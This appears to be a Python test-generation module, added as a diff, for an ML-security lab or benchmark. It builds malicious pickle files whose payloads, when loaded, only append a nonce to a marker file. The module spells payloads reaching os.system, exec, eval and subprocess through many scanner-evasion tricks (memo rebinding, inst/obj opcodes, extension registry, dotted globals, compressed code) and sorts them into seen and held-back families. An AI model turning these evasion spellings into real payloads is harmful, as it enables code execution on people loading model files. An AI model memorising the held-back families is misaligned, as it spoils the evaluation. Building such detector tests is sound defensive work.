@@ -1,0 +1,391 @@
+"""Pickles of known content: hostile ones from families of payloads, honest ones from a pool of ordinary objects.
+
+A payload is an expression of names and calls, so what it reaches is known before a byte is written; `Writer` spells it
+out in one of many ways that Python reads alike. Payloads are harmless: when one runs, it appends its nonce, a line of
+hex, to the file that the environment variable MLSECOPS_MARKER names, and does nothing else.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import importlib
+import io
+import pickle
+import struct
+import sys
+import zlib
+from dataclasses import dataclass
+
+MARKER = "MLSECOPS_MARKER"
+
+
+@dataclass(frozen=True)
+class Name:
+    """A global: `module` and attribute `name`, which may be dotted from protocol 4 on."""
+
+    module: str
+    name: str
+
+    def __str__(self) -> str:
+        return f"{self.module}:{self.name}"
+
+
+class Call:
+    """`function(*arguments)`, of which any may be a name or a call."""
+
+    def __init__(self, function, *arguments):
+        self.function, self.arguments = function, arguments
+
+
+# --- payloads -------------------------------------------------------------------------------------------------------
+
+
+def _shell(nonce: str) -> str:
+    variable = f'"%{MARKER}%"' if sys.platform == "win32" else f'"${MARKER}"'
+    return f"echo {nonce}>>{variable}" if sys.platform == "win32" else f"echo {nonce} >> {variable}"
+
+
+def _python(nonce: str) -> str:
+    return f"open(__import__('os').environ['{MARKER}'], 'a').write('{nonce}\\n')"
+
+
+def _os(r):
+    return Name(r.choice(["os", "nt" if sys.platform == "win32" else "posix"]), "system")
+
+
+def _import_os():
+    return Call(Name("importlib", "import_module"), "os")
+
+
+def _second_stage(r, n):
+    inner = Writer(2).stream(Call(Name("builtins", "exec"), _python(n)))
+    return Call(Name(r.choice(["pickle", "_pickle"]), "loads"), inner)
+
+
+def _write_without_code(r, n):
+    # The marker is opened and written to by three innocent calls: there is neither code nor a command in the stream.
+    path = Call(Name("os.path", "expandvars"), "%MLSECOPS_MARKER%" if sys.platform == "win32" else "$MLSECOPS_MARKER")
+    return Call(Call(Name("builtins", "getattr"), Call(Name("io", "open"), path, "a"), "write"), n + "\n")
+
+
+# Family to expression; those that need a special spelling are in `SPELLED`.
+SEEN = {
+    "system": lambda r, n: Call(_os(r), _shell(n)),
+    "exec": lambda r, n: Call(Name("builtins", "exec"), _python(n)),
+    "eval": lambda r, n: Call(Name("builtins", "eval"), _python(n)),
+    "subprocess": lambda r, n: Call(Name("subprocess", "getoutput"), _shell(n)),
+    "getattr": lambda r, n: Call(Call(Name("builtins", "getattr"), _import_os(), "system"), _shell(n)),
+    "second stage": _second_stage,
+}
+HELD_BACK = {
+    "methodcaller": lambda r, n: Call(Call(Name("operator", "methodcaller"), "system", _shell(n)), _import_os()),
+    "attrgetter": lambda r, n: Call(Call(Call(Name("operator", "attrgetter"), "system"), _import_os()), _shell(n)),
+    "partial": lambda r, n: Call(Call(Name("functools", "partial"), _os(r), _shell(n))),
+    "lazy map": lambda r, n: Call(Name("builtins", "list"), Call(Name("builtins", "map"), _os(r), [_shell(n)])),
+    "compressed code": lambda r, n: Call(
+        Name("builtins", "exec"), Call(Name("zlib", "decompress"), zlib.compress(_python(n).encode()))
+    ),
+    "no code at all": _write_without_code,
+    "stopwatch": lambda r, n: Call(Name("timeit", "timeit"), _python(n), "pass", Name("timeit", "default_timer"), 1),
+}
+# The allowed neighbor's module reaches the system through what it imports itself; needs dotted names, so protocol 4.
+NEIGHBORS = {"uuid:UUID": Name("uuid", "os.system"), "random:Random": Name("random", "_os.system")}
+
+
+def names_of(expression) -> list[Name]:
+    """Every name in an expression, in the order in which it is reached."""
+    if isinstance(expression, Name):
+        return [expression]
+    if isinstance(expression, Call):
+        return [name for part in (expression.function, *expression.arguments) for name in names_of(part)]
+    if isinstance(expression, list | tuple):
+        return [name for part in expression for name in names_of(part)]
+    if isinstance(expression, dict):
+        return [name for pair in expression.items() for name in names_of(pair)]
+    return []
+
+
+class Live:
+    """A call as an object, for pickling by a library: its pickle makes the call when it is loaded."""
+
+    def __init__(self, call: Call):
+        self.function = _live(call.function)
+        self.arguments = tuple(map(_live, call.arguments))
+
+    def __reduce__(self):
+        return self.function, self.arguments
+
+    def __call__(self):  # never called: the pickler only asks whether it could be
+        raise NotImplementedError
+
+
+def _live(part):
+    if isinstance(part, Name):
+        return getattr(importlib.import_module(part.module), part.name)
+    if isinstance(part, Call):
+        return Live(part)
+    return [_live(item) for item in part] if isinstance(part, list) else part
+
+
+# --- spelling -------------------------------------------------------------------------------------------------------
+
+
+class Writer:
+    """Writes pickles opcode by opcode.
+
+    Args:
+        protocol: 0 to 5; which opcodes are used, and what the stream says of itself.
+        names: `"global"` (module and name in the opcode), `"stack"` (two strings on the stack), `"memo"` (the strings
+            lie in the memo since long before), `"rebound"` (the same, after the memo held something else there).
+        calls: `"reduce"`, `"inst"` or `"obj"`: three opcodes that call.
+        strings: `"plain"`, or `"wide"` for the eight-byte length, or `"old"` for Python 2's quoted strings.
+    """
+
+    def __init__(self, protocol: int, names: str = "", calls: str = "reduce", strings: str = "plain"):
+        self.protocol, self.calls, self.strings = protocol, calls, strings
+        self.names = names or ("stack" if protocol >= 4 else "global")
+
+    def stream(self, value) -> bytes:
+        """A whole pickle of `value`, which may hold names and calls anywhere."""
+        head = bytes([0x80, self.protocol]) if self.protocol >= 2 else b""
+        self.slots = {}
+        opening = self._memo(names_of(value)) if self.names in ("memo", "rebound") else b""
+        return head + opening + self.push(value) + b"."
+
+    def push(self, value) -> bytes:
+        """Opcodes that leave `value` on the stack."""
+        if isinstance(value, Name):
+            return self._name(value)
+        if isinstance(value, Call):
+            return self._call(value)
+        if value is None:
+            return b"N"
+        if isinstance(value, str):
+            return self._text(value)
+        if isinstance(value, bytes):
+            return b"B" + struct.pack("<I", len(value)) + value
+        if isinstance(value, int):
+            return b"I%d\n" % value if self.protocol == 0 else b"J" + struct.pack("<i", value)
+        if isinstance(value, float):
+            return b"F%r\n" % value if self.protocol == 0 else b"G" + struct.pack(">d", value)
+        if isinstance(value, list):
+            return b"(" + b"".join(map(self.push, value)) + b"l"
+        if isinstance(value, tuple):
+            return b"(" + b"".join(map(self.push, value)) + b"t"
+        return b"(" + b"".join(self.push(key) + self.push(item) for key, item in value.items()) + b"d"
+
+    def _text(self, text: str) -> bytes:
+        data = text.encode()
+        if self.strings == "wide":
+            return b"\x8d" + struct.pack("<Q", len(data)) + data
+        if self.strings == "old":
+            return b"S" + repr(text).encode() + b"\n"
+        if self.protocol == 0:
+            return b"V" + text.replace("\\", "\\u005c").replace("\n", "\\u000a").encode() + b"\n"
+        return (
+            b"\x8c" + bytes([len(data)]) + data
+            if self.protocol >= 4 and len(data) < 256
+            else (b"X" + struct.pack("<I", len(data)) + data)
+        )
+
+    def _name(self, name: Name) -> bytes:
+        if self.names == "global":
+            return f"c{name.module}\n{name.name}\n".encode()
+        if self.names == "stack":
+            return self._text(name.module) + self._text(name.name) + b"\x93"
+        return b"h" + bytes([self.slots[name.module]]) + b"h" + bytes([self.slots[name.name]]) + b"\x93"
+
+    def _call(self, call: Call) -> bytes:
+        arguments = b"".join(map(self.push, call.arguments))
+        if self.calls == "inst" and isinstance(call.function, Name):
+            return b"(" + arguments + f"i{call.function.module}\n{call.function.name}\n".encode()
+        if self.calls == "obj":
+            return b"(" + self.push(call.function) + arguments + b"o"
+        return self.push(call.function) + b"(" + arguments + b"tR"
+
+    def _memo(self, names) -> bytes:
+        texts = dict.fromkeys(text for name in names for text in (name.module, name.name))
+        self.slots = {text: 7 * number + 3 for number, text in enumerate(texts)}
+        opening = b""
+        if self.names == "rebound":
+            for text, slot in self.slots.items():
+                opening += self._text("collections" if "." not in text else "layer") + b"q" + bytes([slot]) + b"0"
+        for text, slot in self.slots.items():
+            opening += self._text(text) + b"q" + bytes([slot]) + b"0"
+        return opening
+
+
+# --- hostile and honest streams -------------------------------------------------------------------------------------
+
+
+def nonce(r) -> str:
+    """Sixteen hex digits by which a payload that ran is known."""
+    return f"{r.getrandbits(64):016x}"
+
+
+def buried(r, payload):
+    """The payload inside what looks like a saved model."""
+    weights = [round(r.uniform(-1, 1), 3) for _ in range(r.randint(2, 6))]
+    return {"layer": weights, "country": r.choice(["India", "Germany", "Brazil"]), "hook": payload, "epochs": 40}
+
+
+def hostile(r, family: str, mark: str) -> tuple[bytes, list[str]]:
+    """A pickle that runs its payload when it is loaded, and the globals that it reaches, as `module:name`, sorted.
+
+    Args:
+        r: source of draws.
+        family: a key of `SEEN`, `HELD_BACK` or `SPELLED`.
+        mark: the payload's nonce.
+    """
+    if family in SPELLED:
+        return SPELLED[family](r, mark)
+    payload = (SEEN | HELD_BACK)[family](r, mark)
+    protocol = r.choice([2, 3, 4, 4, 5]) if not _has_bytes(payload) else r.choice([3, 4, 5])
+    return Writer(protocol).stream(payload), reached(payload)
+
+
+def _has_bytes(expression) -> bool:
+    if isinstance(expression, Call):
+        return any(map(_has_bytes, (expression.function, *expression.arguments)))
+    return isinstance(expression, bytes)
+
+
+def reached(expression) -> list[str]:
+    """The globals in an expression, as `module:name`, sorted."""
+    return sorted({str(name) for name in names_of(expression)})
+
+
+def _any(r, mark):
+    return SEEN[r.choice(["system", "exec", "eval", "subprocess", "getattr"])](r, mark)
+
+
+def _spelled(protocols=(4, 5), wrap=False, tail=None, **style):
+    def family(r, mark):
+        payload = _any(r, mark)
+        data = Writer(r.choice(protocols), **style).stream(buried(r, payload) if wrap else payload)
+        return (data if tail is None else data[:-1] + tail(r)), reached(payload)
+
+    return family
+
+
+def _extension(r, mark):
+    # Registers os.system under a number in the extension registry, then calls it by the number.
+    code = r.randint(0x10000, 0x7FFFFFFF)
+    register = Writer(2).push(Call(Name("copyreg", "add_extension"), "os", "system", code)) + b"0"
+    call = b"\x84" + struct.pack("<i", code) + b"(" + Writer(2).push(_shell(mark)) + b"tR"
+    return b"\x80\x02" + register + call + b".", ["copyreg:add_extension"]
+
+
+def _python2(r, mark):
+    payload = Call(Name("__builtin__", "eval"), _python(mark))
+    return Writer(2).stream(payload), reached(payload)
+
+
+def _dotted(r, mark):
+    payload = Call(Name("logging", "os.system"), _shell(mark))
+    return Writer(r.choice([4, 5])).stream(payload), reached(payload)
+
+
+def _garbage(r):
+    return r.choice([b"", b"\xff", b"\x8c\xf0cut", b"h\xfe."])
+
+
+SPELLED = {
+    "buried": _spelled((2, 3, 4, 5), wrap=True),
+    "text protocol": _spelled((0,)),
+    "memo": _spelled(names="memo"),
+    "rebound memo": _spelled(names="rebound", wrap=True),
+    "inst": _spelled((0, 1, 2), calls="inst"),
+    "obj": _spelled((2, 4), calls="obj"),
+    "wide strings": _spelled(strings="wide", names="stack"),
+    "old strings": _spelled((2, 3), strings="old", names="stack"),
+    "breaks after": _spelled((2, 4, 5), tail=_garbage),
+    "extension registry": _extension,
+    "python 2 name": _python2,
+    "dotted": _dotted,
+}
+PRACTICE = (*SEEN, "buried", "text protocol", "memo")
+HIDDEN = (*HELD_BACK, "rebound memo", "inst", "obj", "wide strings", "old strings", "breaks after", "dotted")
+HIDDEN_ODD = ("extension registry", "python 2 name")  # where "the globals reached" would need a long definition
+
+
+def pool(r) -> dict[str, object]:
+    """Ordinary objects by the global that their pickle reaches (protocols 3 to 5)."""
+    import ipaddress
+    import types
+    import uuid
+    from collections import Counter, OrderedDict, deque
+    from datetime import date, timedelta
+    from decimal import Decimal
+    from fractions import Fraction
+
+    n = r.randint(2, 9000)
+    return {
+        "collections:OrderedDict": OrderedDict([("country", n), ("years", n + 1)]),
+        "collections:deque": deque([n, n + 1, n + 2]),
+        "collections:Counter": Counter({"Germany": n, "India": 3}),
+        "datetime:date": date(2026, 1 + n % 12, 1 + n % 28),
+        "datetime:timedelta": timedelta(days=n, seconds=n),
+        "decimal:Decimal": Decimal(n) / 100,
+        "fractions:Fraction": Fraction(n, 9001),
+        "uuid:UUID": uuid.UUID(int=n),
+        "ipaddress:IPv4Address": ipaddress.IPv4Address(n),
+        "builtins:complex": complex(n, -1),
+        "builtins:range": range(n),
+        "types:SimpleNamespace": types.SimpleNamespace(epochs=n),
+    }
+
+
+def arrays(r) -> tuple[dict, list[str]]:
+    """A small state of numpy arrays, and the globals that its pickle reaches at protocol 4."""
+    import numpy as np
+
+    size = r.randint(2, 6)
+    weights = np.array([r.uniform(-1, 1) for _ in range(size * 3)], dtype=r.choice(["float32", "float64"]))
+    rebuild = weights.__reduce__()[0]
+    return {"weight": weights.reshape(size, 3), "steps": np.arange(size)}, [
+        f"{rebuild.__module__}:_reconstruct",
+        "numpy:dtype",
+        "numpy:ndarray",
+    ]
+
+
+def look_alike(r):
+    """Plain data that only talks about dangerous names."""
+    return r.choice(
+        [
+            {"note": "never call os.system", "module": "posix", "function": "system"},
+            ["os", "system", "echo hello"],
+            {"raw": b"cos\nsystem\n(S'echo hello'\ntR.", "license": "builtins exec"},
+            ("builtins", "eval", {"subprocess": "getoutput"}),
+            {"codes": [99, 111, 115, 10], "text": "cposix\nsystem\n(tR."},
+        ]
+    )
+
+
+def plain(r):
+    """Data that reaches no global: what a model's settings look like."""
+    return {"epochs": r.randint(1, 99), "lr": r.random(), "countries": r.sample(["India", "Brazil", "Spain"], 2)}
+
+
+def fingerprint(value) -> str:
+    """SHA-256 (hex) of what an object holds: its type and its parts, in order. The lab shows the same function."""
+
+    def parts(value):
+        kind = type(value).__name__
+        if isinstance(value, dict):
+            return [kind, [[parts(key), parts(item)] for key, item in value.items()]]
+        if isinstance(value, list | tuple) or kind == "deque":
+            return [kind, [parts(item) for item in value]]
+        if kind == "ndarray":
+            return [kind, str(value.dtype), list(value.shape), value.tobytes().hex()]
+        return [kind, repr(value)]
+
+    return hashlib.sha256(repr(parts(value)).encode()).hexdigest()
+
+
+def dumped(r, value) -> bytes:
+    """An honest pickle of `value` in protocol 3 or 4, by Python's own pickler."""
+    buffer = io.BytesIO()
+    pickle.dump(value, buffer, protocol=r.choice([3, 4]))
+    return buffer.getvalue()
